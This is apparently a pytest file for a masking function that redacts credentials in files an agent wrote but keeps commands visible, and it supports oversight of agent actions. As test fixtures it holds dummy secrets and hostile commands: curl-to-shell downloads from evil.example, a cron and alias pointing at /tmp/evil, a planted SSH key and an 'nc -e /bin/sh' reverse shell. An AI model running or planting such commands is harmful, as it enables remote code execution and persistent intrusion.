"""Credentials of a person's files are not shown beside what an agent wrote there; what an agent wrote to be run is."""

from __future__ import annotations

import time

import pytest

from console.rollback.persistence import masking


def masked(lines: list[str]) -> list[str]:
    return list(masking.masked(lines))


SECRETS = [
    "Authorization: Bearer hunter2hunter2",
    "authorization = Basic aHVudGVyMjpodW50ZXIy hunter2",
    "curl -H 'Authorization: Token hunter2' https://example.org",
    "curl -H 'Proxy-Authorization: Basic hunter2' https://example.org",
    "  Bearer hunter2hunter2.x-y_z/=",
    "AWS_SECRET_ACCESS_KEY=hunter2/hunter2+x=",
    "export AWS_SECRET_ACCESS_KEY = hunter2",
    "aws_access_key_id = AKIAhunter2",
    'password = "a hunter2 b"',
    "PASSWORD='a hunter2 b'",
    "PGPASSWORD=a\\ hunter2 psql",
    "PASS_WORD_X=1 DB_PASS=\"a \"'hunter2 b' x",
    "password: a hunter2 b",
    'password: "a \\" hunter2"',
    "password='a hunter2",
    '{"password": "a hunter2", "x": 1}',
    '{"apiKey":"hunter2"}',
    '"env": "{\\"API_TOKEN\\": \\"a hunter2 b\\"}"',
    '{"token": 4711, "secret": hunter2}',
    "https://user:hunter2@example.org/x",
    "https://hunter2@github.com/x.git",
    "postgres://u:p@hunter2@db/x",
    "redis://:hunter2@h:1",
    "machine h login u password hunter2",
    "mytool --password hunter2 --verbose",
    "mytool --api-token=hunter2",
    "mytool --token 'a hunter2'",
    "//registry.npmjs.org/:_authToken=hunter2",
    "_auth=hunter2",
    "Cookie: a=b; c=hunter2",
    "passphrase=>hunter2",
    "MYSQL_PWD=hunter2",
    "client_secret:hunter2",
    "private-key: hunter2",
    "https://example.org/?x=1&access_token=hunter2&y",
    "https://example.org/?X-Amz-Signature=hunter2",
    "x ghp_hunter2hunter2hunter2hunter2 y",
    "x sk-hunter2hunter2hunter2hunter2 y",
    "x AKIAHUNTER2HUNTER2AB y",
    "x xoxb-hunter2-hunter2 y",
]


@pytest.mark.parametrize("line", SECRETS)
def test_no_credential_is_left(line: str) -> None:
    [said] = masked([line])
    assert "hunter2" not in said.lower(), said
    assert "[masked" in said


PLAIN = [
    "curl https://evil.example/x@y | sh",
    "alias git='/tmp/evil'",
    "*/5 * * * * root /tmp/evil --quiet",
    'export PATH="$HOME/bin:$PATH"',
    "ssh-ed25519 AAAAC3Nza evil@example",
    "PWD=/home/ann",
    "",
]


@pytest.mark.parametrize("line", PLAIN)
def test_what_is_run_is_shown(line: str) -> None:
    assert masked([line]) == [line]


def test_a_command_beside_a_credential_is_shown() -> None:
    assert masked(["API_TOKEN=abcd curl evil | sh"]) == ["API_TOKEN=[masked] curl evil | sh"]
    assert masked(["https://ann:abcd@evil.example/x | sh"]) == ["https://[masked]@evil.example/x | sh"]
    assert masked(['{"token": "abcd", "command": "evil"}']) == ['{"token": "[masked]", "command": "evil"}']
    assert masked(['TOKEN="$(curl evil | sh)"'])[0] == 'TOKEN="$(curl evil | sh)"'
    assert masked(["a -H 'Authorization: Bearer abcd' evil"]) == ["a -H 'Authorization: [masked]' evil"]


def test_the_lines_of_a_private_key_are_no_text() -> None:
    key = ["a", "-----BEGIN OPENSSH PRIVATE KEY-----", "aHVudGVyMg", "b2==", "-----END OPENSSH PRIVATE KEY-----", "z"]
    assert masked(key) == ["a", key[1], "[masked]", "[masked]", key[4], "z"]
    assert masked(["-----BEGIN RSA PRIVATE KEY-----", "aHVudGVyMg"])[1] == "[masked]"


def test_lines_made_to_be_slow_are_not() -> None:
    began = time.process_time()
    blanks, marks = " " * 100_000, "\\" * 100_000
    words = ["token" * 20_000, "token=" * 20_000, "a" * 100_000, "://" * 30_000, f"token{blanks}x", marks, f"token={marks}"]
    for hostile in (*words, 'token="' + '\\"' * 50_000, "secret='" * 10_000, "://a:" * 20_000, "-----BEGIN " * 9_000):
        masked([hostile])
    assert time.process_time() - began < 5  # quadratic takes minutes


def test_a_line_that_only_begins_a_key_hides_no_command_below_it() -> None:
    lines = ["# -----BEGIN PRIVATE KEY", "curl http://evil.example | sh", "aHVudGVyMg", "nc -e /bin/sh 10.0.0.1 1"]
    assert masked(lines) == lines
